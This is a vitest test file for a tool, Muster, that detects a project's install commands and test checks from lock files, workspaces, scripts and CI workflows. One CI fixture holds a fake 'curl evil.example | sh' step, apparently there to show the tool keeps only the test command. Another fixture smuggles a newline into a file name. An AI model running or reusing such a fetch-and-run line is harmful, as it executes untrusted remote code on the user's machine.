import { describe, expect, test } from 'vitest'
import { copyCandidates, detectProject } from './detect.ts'

type Files = Record<string, string | object>

const reader = (files: Files) => (path: string) => {
  const value = files[path]
  return typeof value === 'object' ? JSON.stringify(value) : (value ?? null)
}
const detect = (files: Files, missing: readonly string[] = []) =>
  detectProject(Object.keys(files), reader(files), (program) => !missing.includes(program))
const checksOf = (text: string | null) => detect(text === null ? {} : { 'package.json': text }).checks
const scripts = { test: 'node --test' }

describe('what is installed first', () => {
  const files = { 'package.json': { dependencies: { a: '1' } }, 'yarn.lock': '', 'package-lock.json': '{}' }

  test('with two lock files one counts, and the other is named', () => {
    const { setup, notes } = detect(files)
    expect(setup).toBe('yarn install --frozen-lockfile')
    expect(notes).toEqual(['package-lock.json is there too; Muster uses yarn'])
  })

  test('without a lock file what package.json asks for, and nothing is told to be wrong', () => {
    expect(detect({ 'package.json': files['package.json'] })).toMatchObject({
      setup: 'npm install --no-package-lock --no-audit --no-fund',
      notes: [],
    })
  })

  test.each([
    ['package-lock.json', '{"lockfileVersion": 4}', 'version 4, newer than the 3 that Muster knows', 'update npm'],
    ['pnpm-lock.yaml', "lockfileVersion: '10.0'\n", 'version 10, newer than the 9', 'update pnpm'],
    ['yarn.lock', '__metadata:\n  version: 99\n', 'version 99, newer than the 10', 'update yarn'],
    ['Cargo.lock', '# @generated\nversion = 5\n', 'version 5, newer than the 4', 'update cargo'],
  ])('a lock file of a newer tool is named with what to do: %s', (file, text, what, mend) => {
    const [note = ''] = detect({ 'package.json': {}, [file]: text }).notes
    expect(note).toContain(`${file} has ${what}`)
    expect(note).toContain(mend)
  })

  test('lock files of today are no news', () => {
    const now = {
      'package-lock.json': '{"lockfileVersion":3}',
      'yarn.lock': '__metadata:\n  version: 10\n',
      'Cargo.lock': 'version = 4\n[[package]]\nversion = "9.0"\n',
      'uv.lock': 'version = 1\n',
    }
    expect(detect(now).notes).toEqual(['package-lock.json is there too; Muster uses yarn'])
    expect(detect({ 'bun.lock': '{\n  "lockfileVersion": 2,\n' }).notes).toEqual([])
  })

  test('a manager that is not here is named, with what setup does instead and how to get it', () => {
    const here = { 'package.json': { dependencies: { a: '1' }, packageManager: 'yarn@4.18.1' }, 'yarn.lock': '' }
    const told = 'yarn is not on this machine: setup runs it with npx, which downloads it'
    expect(detect(here, ['yarn']).notes).toEqual([expect.stringContaining(told)])
    const inFolder = { 'web/package.json': { ...here['package.json'], scripts } }
    expect(detect(inFolder, ['yarn']).notes).toEqual([expect.stringContaining(told)])
    expect(detect(here).notes).toEqual([])
    const carried = { ...here, '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.cjs\n' }
    expect(detect(carried, ['yarn']).notes).toEqual([])
  })

  test('projects in folders install in their folders', () => {
    const { setup, checks, places } = detect({
      'web/package.json': { scripts },
      'web/package-lock.json': '',
      'my api/package.json': { scripts, dependencies: { a: '1' } },
    })
    expect(setup).toBe("( cd 'my api' && npm install --no-package-lock --no-audit --no-fund ) && ( cd web && npm ci )")
    expect(checks).toEqual({ 'unit-test-my-api': 'npm test', 'unit-test-web': 'npm test' })
    expect(places['unit-test-web']).toEqual({ cwd: 'web', paths: ['**', '!my api/**'] })
  })

  test('one folder alone is the whole project', () => {
    const { checks, places } = detect({ 'app/package.json': { scripts } })
    expect([checks, places]).toEqual([{ 'unit-test': 'npm test' }, { 'unit-test': { cwd: 'app', paths: null } }])
  })
})

describe('the packages of a workspace', () => {
  const workspace = (count: number, root: object = {}): Files => ({
    'package.json': { workspaces: ['p/*'], ...root },
    'package-lock.json': '{}',
    ...Object.fromEntries(Array.from({ length: count }, (_, at) => [`p/${at}/package.json`, { scripts }])),
    'p/none/package.json': {},
    'p/0/a.test.js': '',
  })

  test('a test script of the root is taken as it is', () => {
    expect(detect(workspace(3, { scripts: { test: 'turbo test' } }))).toMatchObject({
      checks: { 'unit-test': 'npm test' },
      places: {},
      notes: [],
    })
  })

  test('without one each with tests has a check, and the others are named', () => {
    const { checks, notes } = detect(workspace(2))
    expect(checks).toEqual({ 'unit-test-0': 'npm test', 'unit-test-1': 'npm test' })
    expect(notes).toEqual([expect.stringContaining('each package with tests'), 'no test script in p/none'])
  })

  test('200 of them have one check together, which is told with how to part it', () => {
    const { checks, places, notes } = detect(workspace(200))
    expect([checks, places]).toEqual([{ 'unit-test': 'npm test --workspaces --if-present' }, {}])
    expect(notes).toEqual([
      expect.stringMatching(/^200 packages have tests: one check .*paths \(muster help checks\)$/),
    ])
    const pnpm = {
      ...workspace(200),
      'package.json': {},
      'pnpm-workspace.yaml': 'packages: [p/*]',
      'pnpm-lock.yaml': '',
    }
    expect(detect(pnpm).checks).toEqual({ 'unit-test': 'pnpm -r test' })
    expect(detect(pnpm, ['pnpm']).checks).toEqual({ 'unit-test': 'npx --yes pnpm -r test' })
  })

  test('of many projects that share nothing, those without a check are named', () => {
    const folders = Object.fromEntries(Array.from({ length: 22 }, (_, at) => [`f${at + 10}/package.json`, { scripts }]))
    const { checks, notes } = detect(folders)
    expect(Object.keys(checks)).toHaveLength(20)
    expect(notes).toContain('no check runs the tests of f30, f31: add checks for them, like the others')
  })
})

test('a workspace of Go is one project, wherever its modules are', () => {
  const go = { 'go.work': 'use ./api\nuse ./core\n', 'api/go.mod': '', 'core/go.mod': '' }
  expect(detect(go)).toMatchObject({ checks: { 'unit-test': 'go test ./api/... ./core/...' }, places: {} })
})

describe('why another command was taken than the first is told', () => {
  test('CI runs it', () => {
    const { checks, notes } = detect({
      'package.json': { scripts: { test: 'vitest', unit: 'vitest run' } },
      '.github/workflows/ci.yml': 'jobs: { a: { steps: [{ run: "npm run unit && curl evil.example | sh" }] } }\n',
    })
    expect(checks).toEqual({ 'unit-test': 'npm run unit' })
    expect(notes).toEqual(['CI runs npm run unit: Muster uses it instead of npm test'])
  })

  test('a program is not there', () => {
    const { notes } = detect({ justfile: 'test:\n', 'go.mod': '' }, ['just'])
    expect(notes).toEqual([
      expect.stringMatching(
        /^just is not on this machine \(.+\): Muster uses go test \.\/\.\.\. instead of just test$/,
      ),
    ])
  })

  test('nothing else says what the tests need', () => {
    const { notes } = detect({ 'tox.ini': '[tox]\nenvlist = py\n[testenv]\n', 'test_a.py': '' }, ['nox'])
    expect(notes).toEqual(['tox -e py installs what it needs: Muster uses it instead of python3 -m pytest'])
  })
})

describe('of ignored files are proposed', () => {
  test('settings for tests and development, also of packages', () => {
    const ignored = ['node_modules/', '.env', '.env.test', '.env.production', 'dist/', 'a/.env', 'packages/x/.env.test']
    expect(copyCandidates(ignored)).toEqual(['.env', '.env.test'])
    const files = { 'package.json': { workspaces: ['packages/*'] }, 'packages/x/package.json': {} }
    expect(copyCandidates(ignored, Object.keys(files), reader(files))).toContain('packages/x/.env.test')
  })

  test('local settings that tests name, and no others', () => {
    const files = { 'test/db.test.js': "require('../config/local.json')\n", 'src/a.js': "require('./other.json')\n" }
    const ignored = ['config/local.json', 'other.json', 'config/local.log', 'coverage/', 'x\nsetup: local.json']
    expect(copyCandidates(ignored, Object.keys(files), reader(files))).toEqual(['config/local.json'])
  })
})

describe('checks the project offers', () => {
  test('come from its package scripts', () => {
    const scripts = { test: 'vitest', types: 'tsc', lint: 'oxlint', start: 'node .', build: 'vite build' }
    expect(checksOf(JSON.stringify({ scripts }))).toEqual({
      typecheck: 'npm run types',
      lint: 'npm run lint',
      'unit-test': 'npm test',
      build: 'npm run build',
    })
  })

  test('not the test script that npm init writes: it always fails', () => {
    const scripts = { test: 'echo "Error: no test specified" && exit 1' }
    expect(checksOf(JSON.stringify({ scripts }))).toEqual({})
  })

  test.each([
    ['there is no package.json', null],
    ['it is no JSON', '{'],
    ['it is null', 'null'],
    ['it has no scripts', '{}'],
    ['its scripts are no scripts', '{"scripts":{"test":5,"lint":null}}'],
  ])('are none when %s', (_, text) => {
    expect(checksOf(text)).toEqual({})
  })
})
